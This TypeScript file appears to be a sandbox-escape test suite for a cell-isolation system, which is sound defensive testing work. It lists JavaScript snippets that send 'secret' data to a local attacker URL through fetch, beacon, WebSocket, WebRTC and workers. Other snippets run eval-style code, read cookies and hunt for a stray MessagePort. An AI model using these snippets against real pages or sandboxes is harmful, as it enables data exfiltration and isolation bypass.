/**
 * Ways out of a cell, as code: each is run in the sandbox, where it must fail, and in an ordinary page and worker of
 * the attacker's, where it must not, so that a mistake in the attack is no proof of safety. The code is the body of an
 * async function that is given `url` (an address of the attacker's, its own for each attack), `socket`, `udp` and `quic` (ports of
 * the attacker's) and `page` (the only document there is).
 */
export interface Attack {
  readonly name: string;
  readonly code: string;
  /**
   * How it shows that it got through: the attacker was called ("heard"), or the code came to its end ("answered"),
   * which it does only with what it was after in its hands.
   */
  readonly by: "heard" | "answered";
  /** Where it would be heard, where that is not under its own name. */
  readonly over?: "udp" | "quic";
}

const heard = (name: string, code: string): Attack => ({ name, code, by: "heard" });
const over = (port: "udp" | "quic", name: string, code: string): Attack => ({
  ...heard(name, code),
  over: port,
});
const answered = (name: string, code: string): Attack => ({ name, code, by: "answered" });

/** A script of the attacker's own as a URL, past what compiling a cell does to it. */
const BLOB = `const blob = (code) => URL.createObjectURL(new Blob([code], { type: "text/javascript" }));`;
/** Waits for a worker to say or do something. */
const ASK = `const ask = (worker) => new Promise((ok, no) => { worker.onmessage = ok; worker.onerror = (event) => { event.preventDefault?.(); no(new Error("the worker failed")); }; });`;
const CALLS = '`fetch(${JSON.stringify(url)}, { mode: "no-cors" }).catch(() => 0)`';

const network: readonly Attack[] = [
  heard("fetch", `await fetch(url)`),
  heard("fetch without CORS", `await fetch(url, { mode: "no-cors" })`),
  heard(
    "fetch that outlives its page",
    `await fetch(url, { mode: "no-cors", method: "POST", body: "secret", keepalive: true })`,
  ),
  heard(
    "fetch with credentials",
    `await fetch(url, { credentials: "include", headers: { "x-secret": "1" } })`,
  ),
  heard(
    "fetch of a request object",
    `await fetch(new Request(url, { method: "PUT", body: new Blob(["secret"]) }))`,
  ),
  heard(
    "fetch that is put off",
    `fetchLater(url, { activateAfter: 0 }); await new Promise((ok) => setTimeout(ok, 300))`,
  ),
  heard(
    "XMLHttpRequest",
    `await new Promise((ok, no) => { const x = new XMLHttpRequest(); x.open("POST", url); x.onload = ok; x.onerror = () => no(new Error("refused")); x.send("secret"); })`,
  ),
  heard(
    "XMLHttpRequest that blocks",
    `const x = new XMLHttpRequest(); x.open("GET", url, false); x.send()`,
  ),
  heard(
    "WebSocket",
    `await new Promise((ok, no) => { const s = new WebSocket(socket); s.onopen = ok; s.onerror = () => no(new Error("refused")); })`,
  ),
  heard(
    "EventSource",
    `await new Promise((ok, no) => { const s = new EventSource(url); s.onopen = () => { s.close(); ok(1); }; s.onerror = () => no(new Error("refused")); })`,
  ),
  heard(
    "beacon",
    `if (!navigator.sendBeacon(url, "secret")) throw new Error("refused"); await new Promise((ok) => setTimeout(ok, 200))`,
  ),
  over(
    "udp",
    "WebRTC through a STUN server",
    `const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:" + udp }] }); c.createDataChannel("x"); await c.setLocalDescription(await c.createOffer()); await new Promise((ok) => setTimeout(ok, 800))`,
  ),
  over(
    "quic",
    "WebTransport",
    `const t = new WebTransport("https://127.0.0.1:" + quic + "/", { serverCertificateHashes: [{ algorithm: "sha-256", value: new Uint8Array(32) }] }); await Promise.race([t.ready, new Promise((ok) => setTimeout(ok, 800))])`,
  ),
  heard("font", `await new FontFace("stolen", "url(" + url + ")").load()`),
  heard("WebAssembly as it streams in", `await WebAssembly.compileStreaming(fetch(url))`),
  heard("picture of another site", `await createImageBitmap(await (await fetch(url)).blob())`),
  heard(
    "stream piped into a request",
    `await fetch(url, { method: "POST", body: await new Response(new Blob(["secret"]).stream()).blob() })`,
  ),
];

const scripts: readonly Attack[] = [
  heard("importScripts of a site", `importScripts(url)`),
  answered(
    "importScripts of a data URL",
    `importScripts("data:text/javascript,self.ran1=1"); if (!self.ran1) throw new Error("it did not run")`,
  ),
  heard(
    "import() of a site",
    `${BLOB} importScripts(blob("self.bring = (from) => import(from)")); await self.bring(url)`,
  ),
  heard(
    "import() of a blob that imports a site",
    `${BLOB} const inner = blob("import " + JSON.stringify(url)); importScripts(blob("self.bring2 = (from) => import(from)")); await self.bring2(inner)`,
  ),
  answered(
    "import() of a data URL",
    `${BLOB} importScripts(blob("self.bring3 = (from) => import(from)")); await self.bring3("data:text/javascript,export default 1")`,
  ),
  heard(
    "import with a source map",
    `${BLOB} importScripts(blob("self.load4 = (u) => fetch(u)\\n//# sourceMappingURL=" + url)); await self.load4(url)`,
  ),
  heard("worker of a site", `${ASK} await ask(new Worker(url))`),
  heard(
    "worker of a blob",
    `${ASK} ${BLOB} await ask(new Worker(blob(${CALLS} + ".then(() => postMessage(1))")))`,
  ),
  heard(
    "worker of a data URL",
    `${ASK} await ask(new Worker("data:text/javascript," + encodeURIComponent(${CALLS} + ".then(() => postMessage(1))")))`,
  ),
  heard(
    "module worker of a data URL that imports a site",
    `${ASK} await ask(new Worker("data:text/javascript," + encodeURIComponent("import " + JSON.stringify(url) + "; postMessage(1)"), { type: "module" }))`,
  ),
  heard(
    "worker within a worker within a worker",
    `${ASK} const inner = "data:text/javascript," + encodeURIComponent(${CALLS} + ".then(() => postMessage(1))"); await ask(new Worker("data:text/javascript," + encodeURIComponent("new Worker(" + JSON.stringify(inner) + ").onmessage = () => postMessage(1)")))`,
  ),
  heard(
    "shared worker of a site",
    `const w = new SharedWorker(url); await new Promise((ok, no) => { w.onerror = () => no(new Error("refused")); setTimeout(ok, 500); })`,
  ),
  heard(
    "shared worker of a blob",
    `${BLOB} const w = new SharedWorker(blob(${CALLS})); await new Promise((ok, no) => { w.onerror = () => no(new Error("refused")); setTimeout(ok, 500); })`,
  ),
  answered("service worker", `await navigator.serviceWorker.register("/worker.js")`),
  answered("eval", `(0, eval)("1 + 1")`),
  answered("Function", `new Function("return 1")()`),
  answered("the constructor of a function", `(() => 0).constructor("return 1")()`),
  answered(
    "the constructor of an async function",
    `await (async () => 0).constructor("return 1")()`,
  ),
  answered("the constructor of a generator", `(function* () {}).constructor("yield 1")().next()`),
  answered(
    "a timer that is given text",
    `setTimeout("self.ran2 = 1"); await new Promise((ok) => setTimeout(ok, 200)); if (!self.ran2) throw new Error("it did not run")`,
  ),
];

const pages: readonly Attack[] = [
  heard(
    "image element",
    `const i = page.createElement("img"); i.src = url; page.body.append(i); await new Promise((ok) => setTimeout(ok, 200))`,
  ),
  heard(
    "script element",
    `const s = page.createElement("script"); s.src = url; page.body.append(s); await new Promise((ok) => setTimeout(ok, 200))`,
  ),
  heard(
    "frame",
    `const f = page.createElement("iframe"); f.src = url; page.body.append(f); await new Promise((ok) => setTimeout(ok, 200))`,
  ),
  heard(
    "prefetched link",
    `const l = page.createElement("link"); l.rel = "prefetch"; l.href = url; page.head.append(l); await new Promise((ok) => setTimeout(ok, 500))`,
  ),
  heard(
    "style sheet",
    `const s = page.createElement("style"); s.textContent = "@import url(" + url + ")"; page.head.append(s); await new Promise((ok) => setTimeout(ok, 200))`,
  ),
  heard(
    "form that sends itself",
    `const f = page.createElement("form"); f.action = url; f.target = "hole"; const hole = page.createElement("iframe"); hole.name = "hole"; page.body.append(hole, f); f.submit(); await new Promise((ok) => setTimeout(ok, 300))`,
  ),
  heard(
    "markup that loads",
    `const d = page.createElement("div"); d.innerHTML = "<img src='" + url + "'>"; page.body.append(d); await new Promise((ok) => setTimeout(ok, 200))`,
  ),
  answered("cookies", `if (!page.cookie.includes("planted=")) throw new Error("none were seen")`),
  answered(
    "the window above",
    `if (parent.document.title === undefined) throw new Error("no title")`,
  ),
  answered("the address bar", `history.replaceState({}, "", "/changed")`),
];

const storage: readonly Attack[] = [
  answered("IndexedDB, its list", `await indexedDB.databases()`),
  answered(
    "IndexedDB",
    `await new Promise((ok, no) => { const r = indexedDB.open("ensemble"); r.onsuccess = () => { r.result.close(); ok(1); }; r.onerror = () => no(r.error); })`,
  ),
  answered("caches", `await caches.open("x")`),
  answered("private files", `await navigator.storage.getDirectory()`),
  answered("how much is stored", `await navigator.storage.estimate()`),
  answered("storage buckets", `await navigator.storageBuckets.open("x")`),
  answered("locks", `await navigator.locks.request("x", () => 1)`),
  answered("cookie store", `await cookieStore.getAll()`),
  answered("localStorage", `localStorage.setItem("a", "1")`),
  answered("sessionStorage", `sessionStorage.setItem("a", "1")`),
  answered(
    "the app's own pages",
    `const r = await fetch(own); if (!r.ok) throw new Error("refused")`,
  ),
  answered(
    "a channel to the page",
    `const c = new BroadcastChannel("attack"); const heard = new Promise((ok) => (c.onmessage = ok)); c.postMessage("anybody?"); await Promise.race([heard, new Promise((_, no) => setTimeout(() => no(new Error("nobody answered")), 1500))])`,
  ),
  answered(
    "a port that lies about",
    `const seen = new Set(); const find = (o, d) => { if (d < 0 || o === null || (typeof o !== "object" && typeof o !== "function") || seen.has(o)) return; seen.add(o); if (o instanceof MessagePort) throw o; for (const k of Reflect.ownKeys(o)) { let v; try { v = o[k]; } catch { continue; } find(v, d - 1); } }; let port; try { find(globalThis, 3); } catch (found) { if (!(found instanceof MessagePort)) throw found; port = found; } if (!port) throw new Error("there is none")`,
  ),
];

const powers: readonly Attack[] = [
  answered(
    "notifications",
    `if (Notification.permission !== "granted") throw new Error(Notification.permission); new Notification("x")`,
  ),
  answered(
    "where the person is",
    `await new Promise((ok, no) => navigator.geolocation.getCurrentPosition(ok, no))`,
  ),
  answered(
    "leave to know where the person is",
    `const { state } = await navigator.permissions.query({ name: "geolocation" }); if (state !== "granted") throw new Error(state)`,
  ),
  answered("the clipboard", `await navigator.clipboard.writeText("stolen")`),
  answered(
    "the microphone's names",
    `if ((await navigator.mediaDevices.enumerateDevices()) === undefined) throw new Error("none")`,
  ),
];

export const attacks: readonly Attack[] = [...network, ...scripts, ...pages, ...storage, ...powers];

/** Where the attacker listens. */
export interface Aim {
  /** Which arm it is: the attacker tells them apart. */
  readonly arm: string;
  /** "127.0.0.1:4321" */
  readonly http: string;
  readonly udp: number;
  readonly quic: number;
  /** An address of the app's own. */
  readonly own: string;
}

/** Code that tries them all at once, and gives `{ name: what came of it }`. `page` is how to come by a document. */
export function assault(
  { arm, http, udp, quic, own }: Aim,
  page: string,
  patienceMs = 2_500,
): string {
  const tries = attacks.map(({ name, code }) => {
    const path = `${http}/${arm}/${encodeURIComponent(name)}`;
    return `${JSON.stringify(name)}: async () => { const url = "http://${path}", socket = "ws://${path}", udp = ${udp}, quic = ${quic}, own = ${JSON.stringify(own)}; const page = ${page}; ${code}; return "got through"; }`;
  });
  return `const tried = {};
const tries = { ${tries.join(",\n")} };
await Promise.all(Object.entries(tries).map(async ([name, attack]) => {
  const late = new Promise((ok) => setTimeout(() => ok("nothing came of it"), ${patienceMs}));
  try { tried[name] = await Promise.race([attack(), late]); }
  catch (error) { tried[name] = "refused: " + String(error?.name) + ": " + String(error?.message).slice(0, 60); }
}));`;
}
